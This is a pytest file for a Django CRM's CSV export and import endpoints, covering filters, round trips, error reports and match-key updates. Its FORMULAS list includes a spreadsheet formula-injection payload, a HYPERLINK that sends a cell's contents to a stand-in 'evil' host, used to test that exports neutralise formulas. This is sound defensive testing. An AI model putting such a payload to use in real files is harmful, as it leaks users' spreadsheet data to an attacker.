"""CSV export and import (SPEC section 7): every field out, every row in or reported."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from crm import csv_io
from crm.models import Company, Person
from crm.objects import OBJECTS
from crm.signals_control import triggers_are_suppressed
from tests.conftest import make_workspace

from .api_factories import PLURALS, VALID_CSV, client_for, make_records


def exported(client, plural, query="") -> str:
    response = client.get(f"/api/v1/{plural}/export/{query}")
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content).decode()


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def post_csv(client, plural, text, **params):
    query = "&".join(f"{key}={value}" for key, value in params.items())
    return client.post(f"/api/v1/{plural}/import/?{query}", text, content_type="text/csv")


@pytest.mark.parametrize("plural", PLURALS)
def test_export_has_a_column_for_every_field(api, workspace, plural):
    make_records(workspace)

    header = exported(api, plural).splitlines()[0].split(",")

    assert header == csv_io.export_columns(OBJECTS[_name(plural)])
    assert {"id", "custom", "created_at", "created_by"} <= set(header)


def test_export_writes_relations_tags_and_custom_fields(api, workspace):
    records = make_records(workspace)
    Person.objects.filter(pk=records["people"].pk).update(tags=["vip", "beta"], custom={"n": 1})

    row = rows_of(exported(api, "people"))[0]

    assert row["company"] == str(records["companies"].pk)
    assert row["company_name"] == "Acme"
    assert row["tags"] == "vip, beta"
    assert row["custom"] == '{"n": 1}'


def test_export_respects_filters_and_search(api, workspace):
    Person.objects.create(workspace=workspace, first_name="Ada", city="Lyon")
    Person.objects.create(workspace=workspace, first_name="Bob", city="Oslo")
    Person.objects.create(workspace=workspace, first_name="Cy", city="Lyon")

    by_city = rows_of(exported(api, "people", "?city=Lyon&ordering=first_name"))
    by_search = rows_of(exported(api, "people", "?search=bob"))

    assert [row["first_name"] for row in by_city] == ["Ada", "Cy"]
    assert [row["first_name"] for row in by_search] == ["Bob"]


def test_export_with_a_bad_filter_answers_400_in_json(api, workspace):
    response = api.get("/api/v1/people/export/?company=nope", HTTP_ACCEPT="text/csv")

    assert response.status_code == 400
    assert "company" in response.json()


def test_round_trip_into_another_workspace_creates_good_rows_and_reports_bad_ones(api, workspace):
    Company.objects.create(
        workspace=workspace,
        name="Acme",
        city="Paris",
        employees=12,
        annual_revenue="1000.50",
        ideal_customer=True,
        tags=["key"],
        custom={"tier": "gold"},
    )
    Company.objects.create(workspace=workspace, name="Globex", city="Lyon")
    text = exported(api, "companies", "?ordering=name")
    lines = text.splitlines()
    # A third row, broken by hand: no name and a bad employee count.
    bad_row = lines[1].replace("Acme", "", 1).replace(",12,", ",many,", 1)
    text = "\n".join([*lines, bad_row]) + "\n"
    other = make_workspace("other")

    response = post_csv(client_for(other), "companies", text)

    assert response.status_code == 200, response.content
    body = response.json()
    assert body["total"] == 3
    assert body["created"] == 2
    assert body["errors"] == [
        {
            "row": 4,
            "errors": {
                "name": ["This field is required."],
                "employees": ["A valid integer is required."],
            },
        }
    ]
    copy = Company.objects.get(workspace=other, name="Acme")
    assert (copy.city, copy.employees, str(copy.annual_revenue)) == ("Paris", 12, "1000.50")
    assert (copy.ideal_customer, copy.tags, copy.custom) == (True, ["key"], {"tier": "gold"})
    assert Company.objects.filter(workspace=workspace).count() == 2


@pytest.mark.parametrize("plural", PLURALS)
def test_every_object_can_be_imported(api, workspace, plural):
    response = post_csv(api, plural, VALID_CSV[plural])

    assert response.json() == {"created": 1, "updated": 0, "errors": [], "total": 1}
    assert OBJECTS[_name(plural)].model.objects.filter(workspace=workspace).count() == 1


def test_import_accepts_a_multipart_file(api, workspace):
    upload = SimpleUploadedFile("people.csv", b"first_name,email\nAda,ada@example.com\n")

    response = api.post("/api/v1/people/import/", {"file": upload}, format="multipart")

    assert response.json()["created"] == 1


def test_imported_records_link_to_records_of_the_workspace(api, workspace):
    company = Company.objects.create(workspace=workspace, name="Acme")

    post_csv(api, "people", f"first_name,company\nAda,{company.pk}\n")

    assert Person.objects.get(first_name="Ada").company == company


def test_import_reports_rows_with_too_many_cells(api, workspace):
    body = post_csv(api, "people", "first_name\nAda\nBob,extra\n").json()

    assert body["created"] == 1
    assert body["errors"][0]["row"] == 3


def test_import_skips_blank_lines_without_counting_them(api, workspace):
    body = post_csv(api, "people", "first_name\n\nAda\n\n").json()

    assert body == {"created": 1, "updated": 0, "errors": [], "total": 1}


def test_import_reads_a_semicolon_separated_file_with_a_byte_order_mark(api, workspace):
    text = "\ufefffirst_name;city\nAda;Lyon\n".encode()

    body = api.post("/api/v1/people/import/", text, content_type="text/csv").json()

    assert body["created"] == 1
    assert Person.objects.get().city == "Lyon"


def test_import_reports_bad_json_in_custom(api, workspace):
    body = post_csv(api, "people", 'first_name,custom\nAda,"{not json"\n').json()

    assert "custom" in body["errors"][0]["errors"]


@pytest.mark.parametrize(
    "content, message",
    [
        (b"first_name,nickname\nAda,Countess\n", "Unknown columns: nickname"),
        (b"Ada,Lovelace,ada@example.com\n", "Unknown columns"),
        (b"\n\n", "empty"),
        ("first_name,city\nAda,Z\xfcrich\n".encode("latin-1"), "not UTF-8"),
        (b"first_name,first_name\nA,B\n", "more than once"),
        (b"id,created_at\n1,2\n", "No column to import"),
        (b'first_name\n"Ada\n', "not valid CSV"),
    ],
)
def test_a_malformed_csv_answers_400_with_a_clear_message_and_creates_nothing(
    api, workspace, content, message
):
    response = api.post("/api/v1/people/import/", content, content_type="text/csv")

    assert response.status_code == 400, response.content
    assert message in response.json()["detail"]
    assert not Person.objects.exists()


@pytest.mark.parametrize("body, content_type", [({}, "multipart"), (b"", "text/csv")])
def test_an_import_without_a_file_answers_400(api, workspace, body, content_type):
    if content_type == "multipart":
        response = api.post("/api/v1/people/import/", body, format="multipart")
    else:
        response = api.post("/api/v1/people/import/", body, content_type=content_type)

    assert response.status_code == 400
    assert "file" in response.json()


def test_an_import_as_json_answers_415(api, workspace):
    response = api.post("/api/v1/people/import/", {"file": "x"}, format="json")

    assert response.status_code == 415


def test_a_bad_fire_triggers_flag_answers_400(api, workspace):
    response = post_csv(api, "people", VALID_CSV["people"], fire_triggers="maybe")

    assert response.status_code == 400
    assert "fire_triggers" in response.json()


def test_fire_triggers_false_runs_the_import_with_triggers_suppressed(workspace, monkeypatch):
    seen = []
    monkeypatch.setattr(
        csv_io, "records_bulk_created", lambda model, batch: seen.append(triggers_are_suppressed())
    )

    post_csv(client_for(workspace), "people", VALID_CSV["people"], fire_triggers="false")
    post_csv(client_for(workspace), "people", VALID_CSV["people"])

    assert seen == [True, False]
    assert not triggers_are_suppressed()


def test_import_calls_the_bulk_created_hook_with_the_new_records(workspace, monkeypatch):
    batches = []
    monkeypatch.setattr(csv_io, "records_bulk_created", lambda model, batch: batches.append(batch))
    text = "first_name\n" + "".join(f"P{i}\n" for i in range(csv_io.BATCH_SIZE + 1))

    csv_io.import_csv(OBJECTS["person"], workspace, text)

    assert [len(batch) for batch in batches] == [csv_io.BATCH_SIZE, 1]
    assert all(person.pk for person in batches[1])


def test_import_reports_progress_after_each_batch(workspace):
    calls = []
    text = "first_name\n" + "".join(f"P{i}\n" for i in range(csv_io.BATCH_SIZE + 10))

    csv_io.import_csv(
        OBJECTS["person"], workspace, text, progress=lambda done, total: calls.append((done, total))
    )

    total = csv_io.BATCH_SIZE + 10
    assert calls == [(csv_io.BATCH_SIZE, total), (total, total)]


def test_import_sets_created_by_to_the_user(workspace, owner):
    csv_io.import_csv(OBJECTS["company"], workspace, b"name\nAcme\n", user=owner)

    assert Company.objects.get().created_by == owner


def _name(plural: str) -> str:
    return next(name for name, obj in OBJECTS.items() if obj.plural == plural)


FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "'=quoted"]


def test_formula_cells_are_exported_as_text(api, workspace):
    for text in FORMULAS:
        Person.objects.create(workspace=workspace, first_name=text, last_name="Plain")
    rows = rows_of(exported(api, "people"))
    cells = {row["first_name"] for row in rows}
    assert cells == {"'" + text for text in FORMULAS}
    assert {row["last_name"] for row in rows} == {"Plain"}


def test_a_formula_cell_round_trips_as_text(api, workspace):
    """(Tab-led text is left out: the import trims whitespace around every text field.)"""
    formulas = [text for text in FORMULAS if not text.startswith("\t")]
    for text in formulas:
        Person.objects.create(workspace=workspace, first_name=text, last_name="'plain")
    text = exported(api, "people")
    other = make_workspace("other")
    answer = post_csv(client_for(other), "people", text)
    assert answer.status_code == 200, answer.content
    imported = Person.objects.filter(workspace=other)
    assert sorted(imported.values_list("first_name", flat=True)) == sorted(formulas)
    assert set(imported.values_list("last_name", flat=True)) == {"'plain"}


# --- Round trips with ?match= (export, edit, re-import: updates, not duplicates) --------------


def test_an_edited_export_reimported_with_match_id_updates_every_record(api, workspace):
    Company.objects.create(workspace=workspace, name="Acme", city="Paris")
    Company.objects.create(workspace=workspace, name="Globex", city="Lyon")
    rows = rows_of(exported(api, "companies", "?ordering=name"))
    for row in rows:
        row["city"] = row["city"] + " (moved)"
    rows.append({**rows[0], "id": "", "name": "Initech", "city": "Nantes"})  # a new row

    response = post_csv(api, "companies", _csv_text(rows), match="id")

    assert response.status_code == 200, response.content
    assert response.json() == {"created": 1, "updated": 2, "errors": [], "total": 3}
    cities = dict(Company.objects.filter(workspace=workspace).values_list("name", "city"))
    assert cities == {"Acme": "Paris (moved)", "Globex": "Lyon (moved)", "Initech": "Nantes"}


def test_reimporting_people_with_match_email_updates_them_without_duplicates(api, workspace):
    Person.objects.create(workspace=workspace, first_name="Ada", email="ada@example.com")
    Person.objects.create(workspace=workspace, first_name="Grace", email="grace@example.com")
    rows = rows_of(exported(api, "people", "?ordering=first_name"))
    for row in rows:
        row["id"] = ""  # as if the file came from elsewhere: only the email links it
        row["job_title"] = "Engineer"
    rows[0]["email"] = "ADA@example.com"  # matching ignores case

    response = post_csv(api, "people", _csv_text(rows), match="email")

    assert response.json() == {"created": 0, "updated": 2, "errors": [], "total": 2}
    people = Person.objects.filter(workspace=workspace)
    assert people.count() == 2
    assert set(people.values_list("job_title", flat=True)) == {"Engineer"}


def test_reimporting_companies_with_match_domain_keeps_fields_left_empty(api, workspace):
    Company.objects.create(workspace=workspace, name="Acme", domain="acme.test", city="Paris")
    text = "name,domain,city,employees\nAcme Corp,acme.test,,40\nGlobex,globex.test,Lyon,\n"

    response = post_csv(api, "companies", text, match="domain")

    assert response.json() == {"created": 1, "updated": 1, "errors": [], "total": 2}
    acme = Company.objects.get(workspace=workspace, domain="acme.test")
    assert (acme.name, acme.city, acme.employees) == ("Acme Corp", "Paris", 40)
    assert Company.objects.filter(workspace=workspace).count() == 2


def test_a_file_repeating_a_match_key_reports_the_second_row(api, workspace):
    text = "first_name,email\nAda,ada@example.com\nAda again,ada@example.com\n"

    response = post_csv(api, "people", text, match="email")

    body = response.json()
    assert (body["created"], body["updated"]) == (1, 0)
    assert [error["row"] for error in body["errors"]] == [3]
    assert Person.objects.filter(workspace=workspace).count() == 1


def test_a_match_on_another_workspaces_record_creates_instead(api, workspace):
    other = make_workspace("other")
    theirs = Company.objects.create(workspace=other, name="Theirs", city="Oslo")

    response = post_csv(api, "companies", f"id,name,city\n{theirs.pk},Mine,Lyon\n", match="id")

    assert response.json()["created"] == 1
    theirs.refresh_from_db()
    assert (theirs.name, theirs.city) == ("Theirs", "Oslo")


@pytest.mark.parametrize(
    ("plural", "match", "message"),
    [("people", "domain", "can match on id or email"), ("companies", "email", "domain")],
)
def test_an_unknown_match_field_answers_400(api, workspace, plural, match, message):
    response = post_csv(api, plural, VALID_CSV[plural], match=match)

    assert response.status_code == 400
    assert message in response.json()["detail"]


def test_a_match_column_missing_from_the_file_answers_400(api, workspace):
    response = post_csv(api, "people", "first_name\nAda\n", match="email")

    assert response.status_code == 400
    assert "needs a 'email' column" in response.json()["detail"]


def _csv_text(rows: list[dict]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()
